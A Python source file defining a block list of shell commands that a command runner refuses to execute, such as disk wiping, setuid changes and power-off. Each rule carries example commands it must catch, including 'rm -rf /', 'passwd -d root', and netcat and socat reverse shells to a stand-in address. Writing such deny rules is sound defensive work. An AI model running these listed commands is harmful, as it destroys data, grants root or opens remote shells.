"""The table of what is never run, whoever says yes.

One entry is one rule: its name, why, a predicate over a call, commands that it must match and
look-alikes that it must spare. The tests check every example.
"""

from __future__ import annotations

from dataclasses import dataclass

from .command_signs import (
    Call,
    Predicate,
    account,
    any_system,
    bus,
    changes_tree,
    dd,
    downloads_over,
    edits_in_place,
    fills,
    finds_and_removes,
    formats,
    install_setuid,
    kills_all,
    listens_with_shell,
    mines,
    mode,
    moves_vital,
    overwrites,
    powers_off,
    removes_vital,
    socat_shell,
    systemctl,
    touches_disk,
    unmounts_root,
    volume,
    writes_bad,
)
from .places import names


@dataclass(frozen=True, slots=True)
class Rule:
    """`programs` are the names it applies to (empty: any program)."""

    name: str
    why: str
    programs: frozenset[str]
    test: Predicate
    match: tuple[str, ...]
    spare: tuple[str, ...]


_ANY: frozenset[str] = frozenset()

RULES: tuple[Rule, ...] = (
    Rule(
        "delete-vital",
        "it deletes the system, a home or the whole workspace",
        names("rm rmdir unlink del-cli rimraf trash"),
        removes_vital,
        ("rm -rf /", "rm -r ~", "rm -fR /etc/*"),
        ("rm -rf build", "rm -r /tmp/x", "rm -f ~/notes.txt"),
    ),
    Rule(
        "find-vital",
        "it deletes or changes everything below a vital folder",
        names("find fd"),
        finds_and_removes,
        ("find / -delete", "find /etc -exec rm {} +"),
        ("find . -delete", "find /etc -name x"),
    ),
    Rule(
        "change-tree",
        "it changes owner or rights of a vital folder and all below",
        names("chmod chown chgrp setfacl chattr"),
        changes_tree,
        ("chmod -R 777 /", "chown -R bob ~"),
        ("chmod -R u+w build", "chown bob notes.txt"),
    ),
    Rule(
        "shred-vital",
        "it destroys a disk or a system file",
        names("shred truncate wipe srm badblocks"),
        any_system,
        ("shred /dev/sda", "truncate -s 0 /etc/hosts"),
        ("truncate -s 0 app.log",),
    ),
    Rule(
        "format",
        "it formats, wipes or repartitions a disk",
        names(
            "wipefs sgdisk gdisk fdisk sfdisk cfdisk parted mkswap blkdiscard hdparm cryptsetup pvremove"
            " pvcreate mdadm mkfs mke2fs"
        ),
        formats,
        ("wipefs -a /dev/sdb", "parted /dev/sda mklabel gpt"),
        ("fdisk -l /dev/sda", "parted -l"),
    ),
    Rule(
        "make-filesystem",
        "it makes a new filesystem over a disk",
        _ANY,
        lambda c: c.name.startswith(("mkfs.", "newfs")) and touches_disk(c),
        ("mkfs.ext4 /dev/sdb1",),
        ("mkfs.ext4 disk.img",),
    ),
    Rule(
        "volumes",
        "it destroys a storage volume",
        names("zpool zfs mdadm btrfs"),
        volume,
        ("zpool destroy tank",),
        ("zpool list", "zfs list"),
    ),
    Rule(
        "volume-groups",
        "it removes storage volumes",
        names("vgremove lvremove pvremove"),
        lambda c: bool(c.operands()) and not c.has("t", "--test"),
        ("vgremove vg0", "lvremove -f vg/lv"),
        ("vgremove --test vg0",),
    ),
    Rule(
        "erase-disk",
        "it erases a disk",
        names("diskutil"),
        lambda c: any(a.lower().startswith(("erase", "zero", "partition")) for a in c.operands()[:1]),
        ("diskutil eraseDisk JHFS+ X disk2",),
        ("diskutil list",),
    ),
    Rule(
        "dd",
        "it writes raw data over a disk or a system file",
        names("dd dcfldd dc3dd"),
        dd,
        ("dd if=x of=/dev/sda", "dd of=/etc/passwd"),
        ("dd if=/dev/zero of=disk.img", "dd if=/dev/sda bs=1 count=1"),
    ),
    Rule(
        "redirect",
        "its output overwrites a disk or a system file",
        _ANY,
        writes_bad,
        ("echo x > /etc/passwd", "cat x > /dev/sda", "echo b > /proc/sysrq-trigger"),
        ("ls > /dev/null", "ls > out.txt"),
    ),
    Rule(
        "overwrite",
        "it overwrites a disk or a system file",
        names("cp mv ln rsync scp cpio link git"),
        lambda c: overwrites(c) and (c.name != "git" or "clone" in c.args),
        ("cp x /usr/bin/ssh", "ln -sf a /etc/passwd"),
        ("cp /etc/hosts hosts.txt", "mv a b"),
    ),
    Rule(
        "write-system",
        "it writes a disk or a system file",
        names("tee ed ex patch sponge"),
        any_system,
        ("tee /etc/hosts", "ed /etc/passwd"),
        ("tee out.log",),
    ),
    Rule(
        "edit-system",
        "it edits a system file in place",
        names("sed perl ruby"),
        edits_in_place,
        ("sed -i s/a/b/ /etc/hosts",),
        ("sed -n 1p /etc/hosts", "sed -i s/a/b/ x.txt"),
    ),
    Rule(
        "unpack-system",
        "it downloads or unpacks over system files",
        names("wget curl tar unzip bsdtar 7z aria2c"),
        downloads_over,
        ("wget -O /etc/passwd http://x.example", "tar -xf a.tar -C /usr"),
        ("tar -xf a.tar -C out", "wget -O a.txt http://x.example"),
    ),
    Rule(
        "move-vital",
        "it moves a vital folder away",
        names("mv"),
        moves_vital,
        ("mv /etc /tmp/x",),
        ("mv a /tmp/x",),
    ),
    Rule(
        "install-system",
        "it installs into the system, or a program with another user's rights",
        names("install"),
        install_setuid,
        ("install -m 4755 a /tmp/b", "install -m755 evil /usr/local/bin/sudo"),
        ("install -m 755 a bin/a",),
    ),
    Rule(
        "mode",
        "it opens up system files or keys, or gives a program another user's rights",
        names("chmod"),
        mode,
        ("chmod u+s /bin/bash", "chmod 777 /etc/shadow", "chmod 4755 /tmp/sh"),
        ("chmod +x run.sh", "chmod 644 README.md"),
    ),
    Rule(
        "capabilities",
        "it gives a program the system's rights",
        names("setcap"),
        lambda c: len(c.operands()) > 1,
        ("setcap cap_setuid+ep /usr/bin/python3",),
        ("setcap -h",),
    ),
    Rule(
        "accounts",
        "it changes accounts of this machine",
        names("usermod passwd gpasswd"),
        account,
        ("usermod -aG sudo eve", "passwd -d root"),
        ("passwd --status eve",),
    ),
    Rule(
        "account-files",
        "it changes accounts of this machine",
        names("chpasswd userdel"),
        lambda c: not c.has("h", "--help"),
        ("userdel -r alice", "chpasswd"),
        ("userdel --help",),
    ),
    Rule(
        "kernel",
        "it changes the running kernel",
        names("sysctl"),
        lambda c: c.has("w", "--write") or any("=" in a for a in c.operands()),
        ("sysctl -w kernel.core_pattern=x",),
        ("sysctl -a",),
    ),
    Rule(
        "power",
        "it stops the machine",
        names("shutdown reboot halt poweroff telinit kexec"),
        powers_off,
        ("shutdown -h now", "reboot", "telinit 6"),
        ("shutdown -c", "reboot --help"),
    ),
    Rule(
        "init",
        "it stops the machine",
        names("init"),
        lambda c: c.args[:1] in (("0",), ("6",), ("1",)),
        ("init 0",),
        ("init",),
    ),
    Rule(
        "systemctl",
        "it stops the machine",
        names("systemctl loginctl"),
        systemctl,
        ("systemctl poweroff",),
        ("systemctl status ssh",),
    ),
    Rule(
        "bus",
        "it stops the machine",
        names("dbus-send busctl gdbus qdbus"),
        bus,
        ("dbus-send org.freedesktop.login1.Manager.PowerOff",),
        ("dbus-send --help",),
    ),
    Rule(
        "unmount",
        "it unmounts the root",
        names("umount"),
        unmounts_root,
        ("umount -l /",),
        ("umount /mnt/usb",),
    ),
    Rule("kill-all", "it ends every process", names("kill"), kills_all, ("kill -9 -1",), ("kill -9 1234",)),
    Rule(
        "fill",
        "it fills the disk",
        names("fallocate"),
        fills,
        ("fallocate -l 1000G x",),
        ("fallocate -l 1G x",),
    ),
    Rule(
        "endless",
        "it never ends and takes all memory",
        names("tail sort"),
        lambda c: (
            bool({"/dev/zero", "/dev/urandom", "/dev/random"} & set(c.operands()))
            and not c.has("cn", "--bytes", "--lines")
        ),
        ("tail /dev/zero",),
        ("tail -c 10 /dev/zero", "tail x.log"),
    ),
    Rule(
        "remote-shell",
        "it hands a shell to another machine",
        names("nc ncat netcat nc.traditional"),
        listens_with_shell,
        ("nc -e /bin/sh 203.0.113.9 4444",),
        ("nc -z localhost 80",),
    ),
    Rule(
        "socat-shell",
        "it hands a shell to another machine",
        names("socat"),
        socat_shell,
        ("socat tcp:203.0.113.9:4444 exec:sh",),
        ("socat - tcp:localhost:80",),
    ),
    Rule(
        "miner",
        "it mines coins",
        _ANY,
        mines,
        ("xmrig -o pool.example", "x -o stratum+tcp://p.example:1"),
        ("ls",),
    ),
)

PROGRAMS = frozenset().union(*(r.programs for r in RULES))
_BY_PROGRAM = {name: tuple(r for r in RULES if name in r.programs) for name in PROGRAMS}
_FOR_ANY = tuple(r for r in RULES if not r.programs)


def broken_rule(call: Call) -> Rule | None:
    """The rule that forbids this call, if there is one."""
    for rule in (*_BY_PROGRAM.get(call.name, ()), *_FOR_ANY):
        if rule.test(call):
            return rule
    return None
